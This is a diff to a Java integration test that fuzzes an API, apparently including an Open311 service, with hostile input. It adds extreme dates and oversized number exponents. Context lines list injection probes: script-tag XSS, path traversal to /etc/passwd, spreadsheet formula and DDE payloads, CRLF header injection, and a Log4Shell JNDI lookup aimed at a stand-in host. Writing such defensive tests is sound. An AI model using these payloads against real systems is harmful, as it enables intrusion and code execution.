@@ -66,6 +66,8 @@ class HostileInputIntegrationTest {
             "<script>alert(1)</script>", "../../../etc/passwd", "..\\..\\windows\\win.ini", "=HYPERLINK(\"http://evil\",\"x\")",
             "@SUM(1+1)*cmd|' /C calc'!A0", "%00%0d%0aSet-Cookie:x", "${jndi:ldap://evil/a}");
     static final List<String> CONTROL = List.of("a\u0000b", "a\u001b[31mred", "be\u0007ll", "a\u202Eb");
+    /** What java.time parses but nothing can use (issue 13 defect 4: a 500 on a service log, an internal error on Open311). */
+    static final List<String> EXTREME_DATES = List.of("+999999999-12-31T23:00:00Z", "-999999999-01-01T00:00:00Z");
     static final String EMOJI = "😀👍🏻🏠";
     static final String RTL = "مرحبا بالعالم שלום";
     /** Legitimate in free text: emoji, RTL, what looks like injection, Chinese - stored and read back as sent. */
@@ -292,6 +294,8 @@ class HostileInputIntegrationTest {
             v.addAll(name.equals("lat") ? List.of("91", "-91") : name.equals("lng") ? List.of("181", "-181") : List.of("-1", "1.5"));
         }
         if (type.equals("boolean")) v.addAll(List.of("yes", "1", "TRUE "));
+        if (name.endsWith("date")) v.addAll(EXTREME_DATES); // issue 13 defect 4: Open311's end_date
+
         return v;
     }
 
@@ -314,7 +318,8 @@ class HostileInputIntegrationTest {
         }
         // malformed and wrongly shaped
         for (String s : List.of("", "{", "{\"a\":}", "{\"a\":1,}", "[1,2", "nul", "{} {}", "{'a':1}", "{\"a\":1,\"a\":2}", "null", "[]",
-                "\"text\"", "42", "true", "{\"a\":NaN}", "\u00EF\u00BB\u00BF{}")) {
+                "\"text\"", "42", "true", "{\"a\":NaN}", "\u00EF\u00BB\u00BF{}",
+                "{\"a\":1e2147483648}", "[-1E-2147483649]")) { // an exponent beyond an int: issue 13 defect 4
             if (!s.equals(c.body())) out.add(body(base, "malformed:" + label(s), s));
         }
         // too large for the function (64 KiB) and for the gateway (10 MiB)
@@ -359,6 +364,9 @@ class HostileInputIntegrationTest {
                     for (String s : INJECTIONS) values.add(Map.entry("inject:" + label(s), TextNode.valueOf(s)));
                     values.add(Map.entry("emoji", TextNode.valueOf(EMOJI)));
                     values.add(Map.entry("rtl", TextNode.valueOf(RTL)));
+                    if (leaf.value().asText().matches("\\d{4}-\\d\\d-\\d\\dT.*")) { // a date-time
+                        for (String d : EXTREME_DATES) values.add(Map.entry("date:" + d, TextNode.valueOf(d)));
+                    }
                     if (leaf.value().asText().matches("[A-Z][A-Z0-9_]*")) { // an enum's value
                         values.add(Map.entry("enum:unknown", TextNode.valueOf("NOT_A_VALUE")));
                         values.add(Map.entry("enum:lower", TextNode.valueOf(leaf.value().asText().toLowerCase(java.util.Locale.ROOT))));
@@ -370,7 +378,8 @@ class HostileInputIntegrationTest {
                 boolean coordinate = Set.of("lat", "lng", "long").contains(leaf.name());
                 String outside = leaf.name().equals("lat") ? "91" : "181";
                 for (String n : coordinate ? List.of(outside, "-" + outside, "1e400", "-1e400", "99999999999999999999999999999999999999999", "1.0E-300")
-                        : List.of("-1", "-99999", "1e400", "-1e400", "99999999999999999999999999999999999999999", "1.0E-300", "1e9")) {
+                        : List.of("-1", "-99999", "1e400", "-1e400", "99999999999999999999999999999999999999999", "1.0E-300", "1e9",
+                                "1e2147483648", "-1e2147483648")) {
                     values.add(Map.entry("number:" + n, plain(n)));
                 }
             }
